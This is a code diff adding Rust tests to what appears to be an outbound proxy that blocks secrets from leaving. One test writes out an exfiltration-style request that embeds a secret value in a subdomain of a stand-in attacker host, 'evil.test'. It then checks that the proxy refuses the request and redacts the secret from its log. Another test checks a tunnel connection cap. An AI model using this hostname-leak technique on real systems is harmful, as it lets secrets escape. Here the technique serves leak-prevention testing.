@@ -494,6 +494,24 @@ async fn a_secret_value_leaving_in_any_form_is_blocked() {
             );
         }
     }
+    // Under no route at all, too: a refusal names the host in its record,
+    // which must not carry the value there.
+    let response = h
+        .send(&format!(
+            "GET http://{LABEL_SAFE}.evil.test:{0}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
+            h.port
+        ))
+        .await;
+    assert!(response.starts_with("HTTP/1.1 403"), "{response}");
+    assert!(response.contains("secret LABEL_SAFE"), "{response}");
+    let recorded = format!("{:?}", h.events());
+    assert!(
+        recorded.contains("[redacted:LABEL_SAFE].evil.test"),
+        "{recorded}"
+    );
+    for form in [LABEL_SAFE.to_owned(), hex::encode(LABEL_SAFE)] {
+        assert!(!recorded.contains(&form), "{recorded}");
+    }
 }
 
 #[tokio::test]
@@ -551,7 +569,25 @@ async fn connections_are_capped_and_a_silent_destination_times_out() {
     tokio::time::sleep(Duration::from_millis(100)).await;
     let refused = h.get("api.github.test", h.port, "").await;
     assert!(refused.starts_with("HTTP/1.1 429"), "{refused}");
-    drop((_first, _second));
+    drop(_second);
+    tokio::time::sleep(Duration::from_millis(100)).await;
+    // A tunnel is a connection of its own: with the one taking the last
+    // place, it is refused, and nothing was recorded as allowed (or dialled).
+    let tunnel = h
+        .send(&format!(
+            "CONNECT api.github.test:{0} HTTP/1.1\r\nHost: x\r\n\r\n",
+            h.port
+        ))
+        .await;
+    assert!(tunnel.starts_with("HTTP/1.1 429"), "{tunnel}");
+    assert!(
+        !h.events()
+            .iter()
+            .any(|e| matches!(e, Event::Allowed { tunnel: true, .. })),
+        "{:?}",
+        h.events()
+    );
+    drop(_first);
     tokio::time::sleep(Duration::from_millis(100)).await;
     let response = h.get("slow.github.test", h.silent, "").await;
     assert!(response.starts_with("HTTP/1.1 504"), "{response}");
